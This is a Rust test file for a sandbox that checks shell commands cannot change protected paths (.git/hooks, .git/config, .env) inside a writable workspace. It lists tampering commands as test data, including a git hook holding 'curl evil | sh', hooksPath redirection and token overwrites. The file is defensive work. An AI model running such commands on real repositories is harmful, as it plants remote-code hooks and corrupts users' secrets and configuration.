//! The protected paths inside a read-write root (`.git/hooks`, `.git/config`, `.env`) are
//! read-only for commands: written, appended, replaced by rename, removed, moved aside with
//! their directory, linked over. Each attempt leaves them as they were, while the rest of
//! the root stays writable. A protected path that did not exist before is named in the note.

use std::fs;

use crate::support::sandbox::Escape;
use crate::support::{Snapshot, snapshot};

struct Guarded {
    config: Vec<u8>,
    env: Vec<u8>,
    sub_env: Vec<u8>,
    hooks: Snapshot,
}

fn guarded(e: &Escape) -> Guarded {
    Guarded {
        config: fs::read(e.ws.join(".git/config")).unwrap(),
        env: fs::read(e.ws.join(".env")).unwrap(),
        sub_env: fs::read(e.ws.join("sub/.env")).unwrap(),
        hooks: snapshot(&e.ws.join(".git/hooks")),
    }
}

fn assert_unchanged(e: &Escape, before: &Guarded, name: &str, out: &serde_json::Value) {
    let now = guarded(e);
    assert_eq!(
        now.config, before.config,
        "{name} changed .git/config: {out}"
    );
    assert_eq!(now.env, before.env, "{name} changed .env: {out}");
    assert_eq!(
        now.sub_env, before.sub_env,
        "{name} changed sub/.env: {out}"
    );
    assert_eq!(now.hooks, before.hooks, "{name} changed .git/hooks: {out}");
}

#[tokio::test]
async fn protected_paths_cannot_be_changed_by_any_route() {
    let e = Escape::new();
    let before = guarded(&e);
    let attempts = [
        (
            "write a hook",
            "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
        ),
        ("link a hook", "ln -s /bin/true .git/hooks/pre-push"),
        (
            "append to .git/config",
            "echo '[core] hooksPath = /tmp' >> .git/config",
        ),
        ("git config", "git config core.hooksPath /tmp"),
        (
            "replace .git/config by rename",
            "echo x > c.new && mv -f c.new .git/config",
        ),
        ("remove .git/config", "rm -f .git/config"),
        (
            "move .git aside",
            "mv .git .git-old && mkdir -p .git/hooks && echo x > .git/hooks/pre-commit",
        ),
        (
            "move the hooks aside",
            "mv .git/hooks .git/h2; mkdir .git/hooks; echo x > .git/hooks/post-checkout",
        ),
        ("write .env", "echo TOKEN=evil > .env"),
        ("sed -i .env", "sed -i s/original/evil/ .env"),
        (
            "move a directory holding .env aside",
            "mv sub sub2 && mkdir sub && echo SUB=evil > sub/.env",
        ),
        (
            "through /proc/self/root",
            "echo x >> /proc/self/root$PWD/.git/config; echo x > /proc/self/cwd/.env",
        ),
        (
            "from a subdirectory",
            "cd sub && echo x > ../.git/config; echo x > .env",
        ),
    ];
    for (name, command) in attempts {
        let out = e.attempt(name, command).await;
        assert_unchanged(&e, &before, name, &out);
    }
    // The root itself stays writable, also right beside the protected paths.
    let out = e
        .run("echo ok > .git/scratch && echo ok > notes.txt && cat .git/scratch")
        .await;
    assert_eq!(out["output"], "ok\n", "{out}");
    assert!(e.ws.join("notes.txt").exists());
}

#[tokio::test]
async fn a_protected_path_made_by_the_command_is_named_in_the_note() {
    let e = Escape::new();
    let out = e.run("echo KEY=1 > .env.local && echo made").await;
    assert_eq!(out["output"], "made\n", "{out}");
    let note = out["note"].as_str().unwrap_or_default();
    assert!(note.contains(".env.local"), "{out}");
    assert!(note.contains("protected"), "{out}");
}
